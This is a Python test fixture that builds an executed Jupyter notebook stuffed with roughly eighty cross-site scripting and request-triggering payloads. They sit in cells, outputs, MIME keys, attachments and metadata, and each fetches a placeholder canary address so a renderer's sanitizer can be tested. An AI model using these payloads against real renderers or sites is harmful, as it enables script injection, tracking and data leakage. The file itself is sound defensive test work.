"""What an executed notebook may hold that acts when it is rendered: each reaches for an address of its own.

`raw` is the content as a renderer would put it into a page, the control arm: `fires` says that it then reaches the canary, by
itself or (`click`) when it is clicked. `cell` is the place in a notebook; without one, `raw` is an output of kind text/html.
"""

import base64
import json
from dataclasses import dataclass

CANARY = "@CANARY@"  # the canary's address


@dataclass(frozen=True)
class Attack:
    name: str
    raw: str
    fires: bool = True
    click: bool = False
    cell: dict | None = None

    def control(self, address):
        return self.raw.replace(CANARY, f"{address}/{self.name}")

    def cells(self, address):
        """Where it was meant to be, and wherever else a text can stand."""
        text = json.dumps(self.cell or html("")).replace(CANARY, f"{address}/{self.name}")
        raw = self.control(address)
        spread = [
            {"output_type": "stream", "name": "stdout", "text": raw},
            {"output_type": "error", "ename": raw, "evalue": raw, "traceback": [raw]},
            *(out({kind: raw}) for kind in ("text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml")),
            out({raw: raw}),
            {"output_type": raw},
        ]
        return [
            json.loads(text),
            code(raw, *spread),
            {"cell_type": "markdown", "source": raw, "metadata": {"tags": [raw], raw: raw}},
            {"cell_type": "raw", "source": raw, "metadata": {"raw_mimetype": "text/html"}},
        ]


def code(source, *outputs, **more):
    return {
        "cell_type": "code",
        "source": source,
        "metadata": {},
        "execution_count": 1,
        "outputs": list(outputs),
        **more,
    }


def out(data, **metadata):
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def html(text):
    return code("1", out({"text/html": text}))


def markdown(text, **more):
    return {"cell_type": "markdown", "source": text, "metadata": {}, **more}


CALL = f"fetch('{CANARY}',{{mode:'no-cors'}})"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{CALL}</script></svg>'
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def _base64(text):
    return base64.b64encode(text.encode()).decode()


# The canary's address is longer than its mark, so what is encoded is encoded late.
def _encoded(before, text, after):
    """A control whose text is encoded in the page by nobody: data: addresses may hold it as it is."""
    return before + text.replace('"', "'").replace("#", "%23") + after


HTML = [
    Attack("script", f"<script>{CALL}</script>"),
    Attack("script-src", f'<script src="{CANARY}"></script>'),
    Attack("script-module", f'<script type="module">import "{CANARY}"</script>'),
    Attack("img", f'<img src="{CANARY}">'),
    Attack("img-unquoted-case", f"<ImG sRc={CANARY}>"),
    Attack("img-srcset", f'<img srcset="{CANARY} 1x">'),
    Attack("picture-source", f'<picture><source srcset="{CANARY}"><img></picture>'),
    Attack("img-onerror", f'<img src="data:," onerror="{CALL}">'),
    Attack("svg-onload", f'<svg onload="{CALL}"></svg>'),
    Attack("svg-script", SVG),
    Attack("svg-image", f'<svg><image href="{CANARY}" width="9" height="9"/></svg>'),
    Attack("svg-use", f'<svg><use href="{CANARY}#x"/></svg>', fires=False),
    Attack("svg-animate", f'<svg><a><animate attributeName="href" values="{CANARY}"/><text y="20">click</text></a></svg>', fires=False),
    Attack("details-toggle", f'<details open ontoggle="{CALL}"><summary>x</summary></details>'),
    Attack("input-autofocus", f'<input autofocus onfocus="{CALL}">'),
    Attack("animation-start", f'<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{CALL}">x</b>'),
    Attack("iframe", f'<iframe src="{CANARY}"></iframe>'),
    Attack("iframe-srcdoc", f'<iframe srcdoc="&lt;script&gt;{CALL}&lt;/script&gt;"></iframe>'),
    Attack("iframe-data", _encoded('<iframe src="data:text/html,', f"<script>{CALL}</script>", '"></iframe>')),
    Attack("iframe-javascript", f'<iframe src="javascript:{CALL}"></iframe>'),
    Attack("object", f'<object data="{CANARY}"></object>'),
    Attack("object-svg", _encoded('<object type="image/svg+xml" data="data:image/svg+xml,', SVG, '"></object>'), fires=False),
    Attack("embed", f'<embed src="{CANARY}">'),
    Attack("css-import", f'<style>@import url("{CANARY}");</style>'),
    Attack("css-url", f"<style>body {{ background: url({CANARY}) }}</style>"),
    Attack("css-attribute", f'<div style="background-image: url({CANARY}); height: 9px">x</div>'),
    Attack("css-image-set", f"<style>body {{ background: image-set('{CANARY}' 1x) }}</style>"),
    Attack("css-font", f"<style>@font-face {{ font-family: f; src: url({CANARY}) }} b {{ font-family: f }}</style><b>x</b>"),
    Attack("css-content", f"<style>b::before {{ content: url({CANARY}) }}</style><b>x</b>"),
    Attack("css-list", f'<ul style="list-style-image: url({CANARY})"><li>x</li></ul>'),
    Attack("table-background", f'<table background="{CANARY}"><tr><td>x</td></tr></table>'),
    Attack("link-stylesheet", f'<link rel="stylesheet" href="{CANARY}">'),
    Attack("link-prefetch", f'<link rel="prefetch" href="{CANARY}">'),
    Attack("link-preload", f'<link rel="preload" as="image" href="{CANARY}">'),
    Attack("link-modulepreload", f'<link rel="modulepreload" href="{CANARY}">'),
    Attack("link-icon", f'<link rel="icon" href="{CANARY}">', fires=False),
    Attack("link-dns-prefetch", f'<link rel="dns-prefetch" href="{CANARY}"><link rel="preconnect" href="{CANARY}">', fires=False),
    Attack("speculation", f'<script type="speculationrules">{{"prefetch":[{{"urls":["{CANARY}"]}}]}}</script>', fires=False),
    Attack("meta-refresh", f'<meta http-equiv="refresh" content="0;url={CANARY}">'),
    Attack("base", f'<base href="{CANARY}/"><img src="../base">'),
    Attack("form-submitted", f'<form action="{CANARY}"><input autofocus onfocus="this.form.submit()"></form>'),
    Attack("form-button", f'<form action="{CANARY}" method="post"><button>ok</button></form>', click=True),
    Attack("formaction", f'<form><input type="submit" value="ok" formaction="{CANARY}"></form>', click=True),
    Attack("input-image", f'<input type="image" src="{CANARY}">'),
    Attack("link-clicked", f'<a href="{CANARY}">look</a>', click=True),
    Attack("link-ping", f'<a href="#" ping="{CANARY}">look</a>', click=True),
    Attack("link-javascript", f'<a href="javascript:{CALL}">look</a>', click=True),
    Attack("link-javascript-hidden", f'<a href="java&#9;script:{CALL}">look</a>', click=True),
    Attack("image-map", f'<a href="{CANARY}"><img ismap width="40" height="40" src="data:,"></a>', click=True),
    Attack("audio", f'<audio src="{CANARY}" autoplay></audio>'),
    Attack("video-poster", f'<video poster="{CANARY}"></video>'),
    Attack("video-source", f'<video autoplay><source src="{CANARY}"></video>'),
    Attack("video-track", f'<video src="data:video/mp4," autoplay><track default kind="captions" src="{CANARY}"></video>', fires=False),
    Attack("template-shadow", f'<div><template shadowrootmode="open"><img src="{CANARY}"></template></div>'),
    Attack("mathml-link", f'<math><mtext><a href="{CANARY}">look</a></mtext></math>', click=True),
    Attack("mutation", f'<noscript><p title="</noscript><img src={CANARY}>">'.replace("><", "> <"), fires=False),
    Attack("breakout", f'--></pre></title></style></textarea></script></noscript>"\'><img src="{CANARY}">'),
    Attack("cdata", f"<svg><![CDATA[><img src={CANARY}>]]></svg>", fires=False),
    Attack("handlebars", "{{constructor.constructor('" + CALL.replace("'", '"') + "')()}} ${" + CALL + "} <%= 1 %>", fires=False),
]  # fmt: skip

WIDGET = "application/vnd.jupyter.widget-view+json"
OTHERS = [
    Attack("javascript-output", f"<script>{CALL}</script>", cell=code("1", out({"application/javascript": CALL}))),
    Attack("svg-output", SVG, cell=code("1", out({"image/svg+xml": SVG}))),
    Attack("widget", f'<img src="{CANARY}">', cell=code("1", out({WIDGET: {"model_id": "m", "version_major": 2}, "text/html": f'<img src="{CANARY}">'}))),
    Attack("plotly", f'<img src="{CANARY}">', cell=code("1", out({"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": CANARY}]}}}))),
    Attack("vega", "{}", fires=False, cell=code("1", out({"application/vnd.vegalite.v5+json": {"data": {"url": CANARY}}}))),
    Attack("geojson", "{}", fires=False, cell=code("1", out({"application/geo+json": {"url": CANARY}}, url_template=CANARY))),
    Attack("own-renderer", "{}", fires=False, cell=code("1", out({"application/vnd.bokehjs_load.v0+json": "x", "application/vnd.bokehjs_exec.v0+json": {"server_url": CANARY}}))),
    Attack("markdown-image", f'<img src="{CANARY}">', cell=markdown(f"![x]({CANARY})")),
    Attack("markdown-html", f'<img src="{CANARY}">', cell=markdown(f'<img src="{CANARY}">')),
    Attack("markdown-link", f'<a href="{CANARY}">x</a>', click=True, cell=markdown(f"[x]({CANARY}) <{CANARY}> {CANARY}")),
    Attack("markdown-script", f'<a href="javascript:{CALL}">x</a>', click=True, cell=markdown(f"[x](javascript:{CALL})")),
    Attack("markdown-output", f'<img src="{CANARY}">', cell=code("1", out({"text/markdown": f"![x]({CANARY})"}))),
    Attack("latex", f'<a href="javascript:{CALL}">x</a>', click=True, cell=code("1", out({"text/latex": f"$\\href{{javascript:{CALL}}}{{x}}\\require{{html}}\\style{{background:url({CANARY})}}{{x}}\\includegraphics{{{CANARY}}}$"}))),
    Attack("attachment", f'<img src="{CANARY}">', cell=markdown("![x](attachment:x)", attachments={"x": {"image/svg+xml": SVG}, f'"><img src={CANARY}>': {"text/html": "x"}})),
    Attack("terminal-link", f'<a href="{CANARY}">x</a>', click=True, cell=code("1", {"output_type": "stream", "name": "stdout", "text": f"\x1b]8;;{CANARY}\x1b\\x\x1b]8;;\x1b\\"})),
    Attack("stream", f"<script>{CALL}</script>", cell=code("1", {"output_type": "stream", "name": f"<script>{CALL}</script>", "text": f"</pre><script>{CALL}</script>"})),
    Attack("kind", f'<img src="{CANARY}">', cell=code("1", out({f'<img src="{CANARY}">': "x", f'image/png"><img src="{CANARY}">': "AA=="}))),
    Attack("picture-metadata", f'<img src="{CANARY}">', cell=code("1", out({"image/png": base64.b64encode(PNG).decode()}, **{"image/png": {"width": f'1"><img src="{CANARY}">'}}))),
    Attack("polyglot-png", PNG.decode("latin-1") + f"<script>{CALL}</script>", cell=code("1", out({"image/png": base64.b64encode(PNG + f"<script>{CALL}</script>".encode()).decode()}))),
    Attack("html-as-png", f"<script>{CALL}</script>", cell=code("1", out({"image/png": _base64(f"<script>{CALL}</script>"), "image/jpeg": f'"><script>{CALL}</script>'}))),
    Attack("xhtml", f"<script>{CALL}</script>", cell=code("1", out({"application/xhtml+xml": f"<script>{CALL}</script>", "application/pdf": f"<script>{CALL}</script>"}))),
]  # fmt: skip
ATTACKS = [*HTML, *OTHERS]


def notebook(address):
    """All of them in one executed notebook, its own metadata included."""
    raw = f'"><img src="{address}/metadata"><script>fetch("{address}/metadata")</script>'
    state = {"m": {"model_name": "HTMLModel", "state": {"value": raw}}}
    metadata = {
        "kernelspec": {"name": "python3", "language": "python", "display_name": raw},
        "title": raw,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": state}},
    }
    cells = [cell for attack in ATTACKS for cell in attack.cells(address)]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}).encode()
